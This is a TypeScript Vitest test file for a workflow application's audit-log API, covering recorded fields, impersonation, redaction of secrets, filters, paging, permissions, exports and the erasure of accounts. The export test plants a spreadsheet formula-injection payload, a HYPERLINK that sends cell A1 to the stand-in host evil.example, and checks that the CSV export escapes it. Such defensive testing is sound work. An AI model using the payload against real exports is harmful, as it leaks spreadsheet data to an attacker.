import { afterAll, beforeAll, expect, test, vi } from 'vitest'
import { testApp, type TestApp, type TestUser } from '../../test-app.ts'
import type { Entry } from './schema.ts'
import { verifyAudit } from './verify.ts'

let mill: TestApp
let ann: TestUser
let boss: TestUser
beforeAll(async () => {
  mill = await testApp()
  boss = await mill.admin()
  ann = await mill.register('ann')
})
afterAll(() => mill.close())

const from = (address: string, agent = 'stone/1.0') => ({ 'x-forwarded-for': address, 'user-agent': agent })
const audit = async (user: TestUser, query = ''): Promise<Entry[]> => {
  const reply = await user.call('GET', `/api/v1/audit${query}`)
  expect(reply.status, JSON.stringify(reply.body)).toBe(200)
  return reply.body.items
}
const everywhere = async (query = ''): Promise<Entry[]> => (await boss.call('GET', `/api/v1/audit/all${query}`)).body.items
/** The newest entry of an action, once it is there. */
const entered = (read: () => Promise<Entry[]>, matching: Partial<Entry>): Promise<Entry> =>
  vi.waitFor(async () => {
    const found = (await read()).find((entry) => Object.entries(matching).every(([field, value]) => entry[field as keyof Entry] === value))
    expect(found, JSON.stringify(matching)).toBeDefined()
    return found as Entry
  })

/** Waits until everything that was recorded so far is in the audit. */
const settled = async (): Promise<void> => {
  const names = mill.app.modules.flatMap(({ events = [] }) => events.filter(({ audit: is }) => is !== false)).map(({ name }) => name)
  await vi.waitFor(async () => {
    const [row] = await mill.database.owner`
      select count(*)::int as waiting from events e
      where name in ${mill.database.owner(names)} and not exists (select from audit_entries a where a.id = e.id)`
    expect(row?.['waiting']).toBe(0)
  })
}

const newWorkflow = { name: 'Grind', definition: { nodes: [], edges: [] } }

test('an entry says who did what to what, when, from where, and in which request', async () => {
  const before = Date.now()
  const made = await ann.call('POST', '/api/v1/workflows', { body: newWorkflow, headers: from('198.51.100.7') })
  const entry = await entered(() => audit(ann), { action: 'workflows.created', target_id: made.body.id })
  expect(entry).toMatchObject({
    workspace_id: ann.workspace_id,
    actor_type: 'user',
    actor_id: ann.id,
    actor_name: 'ann@example.org',
    impersonator_id: null,
    target_type: 'workflow',
    request_id: made.headers.get('x-request-id'),
    address: '198.51.100.7',
    user_agent: 'stone/1.0',
    data: { workflow_id: made.body.id, name: 'Grind', revision: 1 },
    erased_at: null,
  })
  expect(Date.parse(entry.at)).toBeGreaterThanOrEqual(before)
  expect(Date.parse(entry.at)).toBeLessThanOrEqual(Date.now())
})

test('a change of a profile is entered with what was there before and after', async () => {
  await ann.call('PUT', '/api/v1/users/profile', { body: { name: 'Ann' } })
  await ann.call('PUT', '/api/v1/users/profile', { body: { name: 'Anna', settings: { theme: 'dark', api_token: 'canary-6a1f' } } })
  await settled()
  const [entry] = await audit(ann, '?action=users.profile.updated')
  expect(entry).toMatchObject({ target_type: 'user', target_id: ann.id, before: { name: 'Ann' }, after: { name: 'Anna' } })
  expect(JSON.stringify(entry)).not.toContain('canary-6a1f')
})

test('a workflow is entered with what was there before and after, and its draft only in numbers', async () => {
  const node = { id: 'start', type: 'trigger.manual', config: { note: 'canary-in-a-draft' } }
  const made = await ann.call('POST', '/api/v1/workflows', { body: newWorkflow })
  const { id } = made.body
  const body = { name: 'Grind finely', tags: ['flour'], definition: { nodes: [node], edges: [] } }
  const changed = await ann.call('PUT', `/api/v1/workflows/${id}`, { body, headers: { 'if-match': made.headers.get('etag') as string } })
  expect(changed.status).toBe(200)
  await ann.call('POST', `/api/v1/workflows/${id}/archive`)
  await ann.call('DELETE', `/api/v1/workflows/${id}`)
  await settled()
  const entries = await audit(ann, `?target_id=${id}&order=asc`)
  const whole = { name: 'Grind finely', status: 'archived', tags: ['flour'], version: null, definition: { nodes: 1, edges: 0 } }
  expect(entries.map(({ action, before, after }) => [action, before, after])).toEqual([
    [
      'workflows.created',
      null,
      expect.objectContaining({ name: 'Grind', status: 'draft', revision: 1, definition: { nodes: 0, edges: 0 } }),
    ],
    [
      'workflows.updated',
      { name: 'Grind', tags: [], definition: { nodes: 0, edges: 0 }, revision: 1 },
      { name: 'Grind finely', tags: ['flour'], definition: { nodes: 1, edges: 0 }, revision: 2 },
    ],
    ['workflows.archived', { status: 'draft', revision: 2 }, { status: 'archived', revision: 3 }],
    ['workflows.deleted', expect.objectContaining(whole), null],
  ])
  expect(JSON.stringify(entries)).not.toContain('canary-in-a-draft')
})

test("what an admin does to somebody else's account is entered as done by the admin", async () => {
  const dora = await mill.register('dora')
  await boss.call('PUT', `/api/v1/users/admin/users/${dora.id}/status`, { body: { is_active: false }, headers: from('203.0.113.9') })
  const entry = await entered(everywhere, { action: 'users.status.changed', target_id: dora.id })
  expect(entry).toMatchObject({
    actor_type: 'user',
    actor_id: boss.id,
    actor_name: boss.email,
    address: '203.0.113.9',
    before: { is_active: true },
    after: { is_active: false },
  })
  expect(await audit(ann, `?target_id=${dora.id}`)).toEqual([])
})

test('what an admin does as somebody else names both, to everybody who reads it', async () => {
  const mia = await mill.register('mia')
  const path = `/api/v1/users/admin/users/${mia.id}/impersonate`
  const acting = await boss.call('POST', path, { body: { reason: 'cannot find the button' }, headers: from('203.0.113.40') })
  expect(acting.status, JSON.stringify(acting.body)).toBe(201)
  const made = await mill.as(acting.body)('POST', '/api/v1/workflows', { body: newWorkflow, headers: from('203.0.113.41') })
  await settled()
  const [entry] = await audit(mia, `?target_id=${made.body.id}`)
  expect(entry).toMatchObject({
    action: 'workflows.created',
    actor_type: 'user',
    actor_id: mia.id,
    actor_name: mia.email,
    impersonator_id: boss.id,
    impersonator_name: boss.email,
    address: '203.0.113.41',
  })
  const [started] = await audit(mia, '?action=identity.impersonation.started')
  expect(started).toMatchObject({ actor_id: boss.id, impersonator_id: null, target_id: mia.id, address: '203.0.113.40' })
  expect((await audit(mia, `?actor_id=${boss.id}`)).map(({ id }) => id)).toContain(entry?.id)
  const { body } = await mia.call('GET', '/api/v1/users/profile/activity')
  expect(body.items.find(({ action }: Entry) => action === 'workflows.created')).toMatchObject({ by_me: true, impersonated: true })
  expect(body.items.find(({ action }: Entry) => action === 'identity.impersonation.started')).toMatchObject({ by_me: false })
})

test('a sign-in is entered as done by who signed in; a failed one by nobody, with the address it came from', async () => {
  const { email, password } = ann
  await mill.call('POST', '/api/v1/auth/login', { body: { email, password }, headers: from('198.51.100.21', 'phone/2') })
  const session = await entered(() => audit(ann, '?action=identity.session.created'), { address: '198.51.100.21' })
  expect(session).toMatchObject({ actor_type: 'user', actor_id: ann.id, target_type: 'user', target_id: ann.id, user_agent: 'phone/2' })
  const wrong = await mill.call('POST', '/api/v1/auth/login', {
    body: { email, password: 'canary-guessed-91' },
    headers: from('198.51.100.22', 'guesser/1'),
  })
  const failed = await entered(everywhere, { action: 'identity.login.failed', address: '198.51.100.22' })
  expect(failed).toMatchObject({
    workspace_id: null,
    actor_type: 'anonymous',
    actor_id: null,
    actor_name: null,
    user_agent: 'guesser/1',
    request_id: wrong.headers.get('x-request-id'),
    data: { email },
  })
})

test('no password and no token is in an event or an entry', async () => {
  const canary = 'canary-password-77f3a'
  const reply = await mill.call('POST', '/api/v1/auth/register', {
    body: { email: 'cara@example.org', password: canary },
    headers: from('198.51.100.23'),
  })
  expect(reply.status).toBe(201)
  const { access_token, refresh_token } = reply.body
  await mill.call('POST', '/api/v1/auth/login', {
    body: { email: 'cara@example.org', password: `${canary}!` },
    headers: from('198.51.100.24'),
  })
  await mill.as({ access_token })('PUT', '/api/v1/users/profile', {
    body: { settings: { password: canary, nested: { client_secret: canary } } },
  })
  await settled()
  const { owner } = mill.database
  const [rows] = await owner`
    select
      (select string_agg(row_to_json(e)::text, '') from events e) as events,
      (select string_agg(row_to_json(a)::text, '') from audit_entries a) as entries`
  for (const text of [rows?.['events'], rows?.['entries']] as string[]) {
    expect(text).toContain('cara@example.org')
    for (const secret of [canary, access_token, refresh_token]) expect(text).not.toContain(secret)
  }
})

test('the list is filtered by who, what, on what, when and in which request', async () => {
  const eve = await mill.register('eve')
  const first = await eve.call('POST', '/api/v1/workflows', { body: newWorkflow })
  await settled()
  const [{ at: middle } = { at: '' }] = await audit(eve, `?target_id=${first.body.id}`)
  await new Promise((resolve) => setTimeout(resolve, 5))
  const second = await eve.call('POST', '/api/v1/workflows', { body: newWorkflow })
  await eve.call('PUT', '/api/v1/users/profile', { body: { name: 'Eve' } })
  await settled()
  const actions = async (query: string): Promise<string[]> => (await audit(eve, query)).map(({ action }) => action)
  const all = await actions('')
  expect(all.slice(0, 3)).toEqual(['users.profile.updated', 'workflows.created', 'workflows.created'])
  expect(await actions('?action=workflows.*')).toEqual(['workflows.created', 'workflows.created'])
  expect(await actions('?action=workflows.created')).toEqual(['workflows.created', 'workflows.created'])
  expect(await actions('?action=workflows')).toEqual([])
  expect(await actions('?action=*')).toEqual(all)
  expect(await actions(`?actor_id=${eve.id}`)).toEqual(all)
  expect(await actions(`?actor_id=${ann.id}`)).toEqual([])
  expect(await actions(`?target_id=${second.body.id}`)).toEqual(['workflows.created'])
  expect(await actions(`?request_id=${second.headers.get('x-request-id')}`)).toEqual(['workflows.created'])
  expect(await actions(`?to=${middle}`)).toEqual(all.slice(3))
  expect(await actions(`?from=${middle}`)).toEqual(all.slice(0, 3))
  expect(await actions(`?from=${middle}&action=users.*`)).toEqual(['users.profile.updated'])
  expect(await actions(`?order=asc`)).toEqual(all.toReversed())
  for (const query of ['?action=W%25', '?from=yesterday', '?actor_id=1', '?cursor=x', '?limit=0']) {
    expect((await eve.call('GET', `/api/v1/audit${query}`)).status, query).toBe(422)
  }
})

test('pages follow each other without gap or repetition, here and across workspaces, while entries are added', async () => {
  const fay = await mill.register('fay')
  const add = () => fay.call('POST', '/api/v1/workflows', { body: newWorkflow })
  for (let made = 0; made < 7; made++) await add()
  await settled()
  for (const [user, path] of [
    [fay, '/api/v1/audit?'],
    [boss, '/api/v1/audit/all?'],
    [boss, `/api/v1/audit/all?workspace_id=${fay.workspace_id}&`],
    [boss, '/api/v1/audit/all?workspace_id=none&'],
  ] as const) {
    const whole: Entry[] = (await user.call('GET', `${path}limit=200`)).body.items
    const read: Entry[] = []
    let cursor: string | null = null
    do {
      const query: string = `${path}limit=2&total=true${cursor === null ? '' : `&cursor=${cursor}`}`
      const { body } = await user.call('GET', query)
      expect(body.total).toBeGreaterThanOrEqual(whole.length)
      read.push(...body.items)
      cursor = body.next_cursor
      if (read.length === 4) await add()
    } while (cursor !== null)
    expect(read.map(({ id }) => id)).toEqual(whole.map(({ id }) => id))
    expect(whole.length).toBeGreaterThan(1)
    await settled()
  }
})

test('only an admin of the workspace reads its audit, and only the admin of the installation that of all', async () => {
  const gil = await mill.register('gil')
  await settled()
  const set = (role: string) => mill.database.owner`
    update workspace_members set role = ${role} where workspace_id = ${gil.workspace_id} and user_id = ${gil.id}`
  const statuses = async (): Promise<number[]> => {
    // Signed in anew, so that no process holds the old role.
    const { body } = await mill.call('POST', '/api/v1/auth/login', { body: { email: gil.email, password: gil.password } })
    const call = mill.as(body)
    return [
      (await call('GET', '/api/v1/audit')).status,
      (await call('GET', '/api/v1/audit/export')).status,
      (await call('GET', '/api/v1/audit/all')).status,
      (await call('GET', '/api/v1/audit/all/export')).status,
    ]
  }
  expect(await statuses()).toEqual([200, 200, 403, 403])
  for (const [role, status] of [
    ['admin', 200],
    ['member', 403],
    ['viewer', 403],
  ] as const) {
    await set(role)
    expect(await statuses(), role).toEqual([status, status, 403, 403])
  }
  expect((await mill.call('GET', '/api/v1/audit')).status).toBe(401)
  expect((await mill.call('GET', '/api/v1/users/profile/activity')).status).toBe(401)
})

test("another workspace's entries are not there, whatever the filter", async () => {
  const hal = await mill.register('hal')
  await settled()
  for (const query of ['', `?actor_id=${ann.id}`, `?target_id=${ann.id}`, `?workspace_id=${ann.workspace_id}`]) {
    const reply = await hal.call('GET', `/api/v1/audit${query}`)
    expect(JSON.stringify(reply.body), query).not.toContain(ann.id)
  }
  expect((await hal.call('GET', '/api/v1/audit', { headers: { 'x-workspace-id': ann.workspace_id } })).status).toBe(404)
  expect((await hal.call('GET', '/api/v1/audit/export?format=ndjson')).body).not.toContain(ann.id)
})

test('everybody sees what they did and what was done to them, and not what changed', async () => {
  const ida = await mill.register('ida')
  await boss.call('PUT', `/api/v1/users/admin/users/${ida.id}/status`, { body: { is_active: false } })
  await boss.call('PUT', `/api/v1/users/admin/users/${ida.id}/status`, { body: { is_active: true } })
  const { body: again } = await mill.call('POST', '/api/v1/auth/login', {
    body: { email: ida.email, password: ida.password },
    headers: from('198.51.100.31'),
  })
  await settled()
  const { body } = await mill.as(again)('GET', '/api/v1/users/profile/activity?limit=3')
  expect(body.items).toMatchObject([
    { action: 'identity.session.created', by_me: true, address: '198.51.100.31' },
    { action: 'users.status.changed', by_me: false, address: null },
    { action: expect.any(String) },
  ])
  expect(body.next_cursor).not.toBeNull()
  expect(JSON.stringify(body)).not.toContain(boss.id)
})

test('an export holds all that the filters leave, and is itself entered', async () => {
  const jon = await mill.register('jon')
  const evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
  await jon.call('POST', '/api/v1/workflows', { body: { ...newWorkflow, name: evil }, headers: { 'user-agent': `${evil}, or` } })
  await jon.call('POST', '/api/v1/workflows', { body: newWorkflow, headers: { 'user-agent': '@SUM(A1)' } })
  await settled()
  const csv = await jon.call('GET', '/api/v1/audit/export')
  expect(csv.headers.get('content-type')).toMatch(/^text\/csv/)
  expect(csv.headers.get('content-disposition')).toMatch(/^attachment; filename="audit-\d{4}-\d\d-\d\d\.csv"$/)
  const cells = parseCsv(csv.body)
  const [head = [], ...lines] = cells
  expect(new Set(cells.map(({ length }) => length))).toEqual(new Set([head.length]))
  expect(lines.map((line) => line[head.indexOf('action')])).toEqual(expect.arrayContaining(['users.registered', 'workflows.created']))
  const agents = lines.map((line) => line[head.indexOf('user_agent')])
  expect(agents).toContain(`'${evil}, or`)
  expect(agents).toContain(`'@SUM(A1)`)
  for (const cell of cells.flat()) expect(cell).not.toMatch(/^[=+\-@]/)
  const made = lines.find((line) => line[head.indexOf('user_agent')] === `'${evil}, or`) ?? []
  expect(JSON.parse(made[head.indexOf('data')] ?? '')).toMatchObject({ name: evil })

  const ndjson = await jon.call('GET', '/api/v1/audit/export?format=ndjson&action=workflows.*&order=desc')
  const entries = (ndjson.body as string)
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line))
  expect(entries.map(({ action, seq }) => [action, seq])).toEqual(
    (await audit(jon, '?action=workflows.*')).map(({ action, seq }) => [action, seq]),
  )
  expect(entries).toHaveLength(2)
  await settled()
  const [own] = await audit(jon, '?action=audit.exported')
  expect(own).toMatchObject({ actor_id: jon.id, data: { format: 'ndjson', of: 'workspace', filter: { action: 'workflows.*' } } })

  const all = await boss.call('GET', `/api/v1/audit/all/export?format=ndjson&workspace_id=${jon.workspace_id}`)
  expect((all.body as string).split('\n').length).toBeGreaterThan(entries.length)
  const ownOfAll = await entered(everywhere, { action: 'audit.exported', workspace_id: null })
  expect(ownOfAll).toMatchObject({ actor_id: boss.id, data: { of: 'installation', filter: { workspace_id: jon.workspace_id } } })
})

test('an export of more than a page is whole', async () => {
  const kim = await mill.register('kim')
  await settled()
  await mill.database.owner.begin(async (sql) => {
    await sql`set local role millrace_system`
    await sql`
      insert into audit_entries (id, workspace_id, at, action, actor_type, data)
      select uuidv7(), ${kim.workspace_id}, now(), 'mill.sack.filled', 'system', '{}' from generate_series(1, 1205)`
  })
  const { body } = await kim.call('GET', '/api/v1/audit/export?format=ndjson')
  const seqs = (body as string)
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line).seq as number)
  expect(seqs.length).toBeGreaterThan(1_205)
  expect(seqs).toEqual(seqs.map((_, index) => index + 1))
})

test('who takes home all that is known about them takes their activity too', async () => {
  const nat = await mill.register('nat')
  await settled()
  const { body: asked } = await nat.call('POST', '/api/v1/users/profile/exports')
  const path = `/api/v1/users/profile/exports/${asked.id}`
  await vi.waitFor(async () => expect((await nat.call('GET', path)).body.status).toBe('ready'), { timeout: 10_000 })
  const { body } = await nat.call('GET', `${path}/download`)
  expect(body.data.activity).toEqual(
    expect.arrayContaining([expect.objectContaining({ action: 'identity.session.created', by_me: true, address: expect.any(String) })]),
  )
})

test('an account that is erased leaves entries that tell nothing of the person, in chains that are whole', async () => {
  const oda = await mill.register('oda')
  await oda.call('PUT', '/api/v1/users/profile', { body: { name: 'Oda von Oben' }, headers: from('198.51.100.77', 'oda-browser/1') })
  await settled()
  const before = await everywhere(`?target_id=${oda.id}`)
  expect(JSON.stringify(before)).toMatch(/Oda von Oben.*|oda@example\.org/)
  expect((await boss.call('DELETE', `/api/v1/users/${oda.id}`)).status).toBe(202)
  await entered(everywhere, { action: 'users.erased', target_id: oda.id })
  await settled()
  const after = [...(await everywhere(`?target_id=${oda.id}&limit=200`)), ...(await everywhere(`?actor_id=${oda.id}&limit=200`))]
  expect(after.map(({ id }) => id)).toEqual(expect.arrayContaining(before.map(({ id }) => id)))
  expect(JSON.stringify(after)).not.toMatch(/Oda von Oben|oda@example\.org|198\.51\.100\.77|oda-browser/)
  const changed = after.find(({ action }) => action === 'users.profile.updated')
  expect(changed).toMatchObject({ actor_id: oda.id, actor_name: 'erased', before: null, erased_at: expect.any(String) })
  expect((await verifyAudit(mill.database.handle.system)).filter(({ breach }) => breach !== null)).toEqual([])
})

test('what the first admin did before anybody could sign in is entered too', async () => {
  await settled()
  expect(await everywhere(`?action=users.registered&target_id=${boss.id}`)).toHaveLength(1)
})

test('two processes enter everything, once', async () => {
  const other = await testApp({ beside: mill })
  const lea = await mill.register('lea')
  const calls = [mill.as(lea), other.as(lea)]
  const statuses = await Promise.all(
    Array.from({ length: 40 }, (_, index) =>
      (calls[index % 2] as typeof lea.call)('POST', '/api/v1/workflows', { body: newWorkflow }).then(({ status }) => status),
    ),
  )
  expect(new Set(statuses)).toEqual(new Set([201]))
  await settled()
  await other.close()
  const { body } = await lea.call('GET', '/api/v1/audit?action=workflows.created&limit=200&total=true')
  expect(body.total).toBe(40)
  expect(new Set(body.items.map(({ request_id }: Entry) => request_id)).size).toBe(40)
  expect((await verifyAudit(mill.database.handle.system)).filter(({ breach }) => breach !== null)).toEqual([])
})

test('every event that a module has is in its list, so that none is forgotten in the audit', async () => {
  const declared = new Set(mill.app.modules.flatMap(({ events = [] }) => events.map(({ name }) => name)))
  const recorded = await mill.database.owner<{ name: string }[]>`select distinct name from events`
  expect(recorded.map(({ name }) => name).filter((name) => !declared.has(name))).toEqual([])
})

/** RFC 4180. */
const parseCsv = (text: string): string[][] => {
  const lines: string[][] = [[]]
  const form = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/gy
  for (let found = form.exec(text); found !== null; found = form.exec(text)) {
    const [, quoted, plain = '', end] = found
    lines.at(-1)?.push(quoted === undefined ? plain : quoted.replaceAll('""', '"'))
    if (end === '\r\n') lines.push([])
  }
  return lines.slice(0, -1)
}
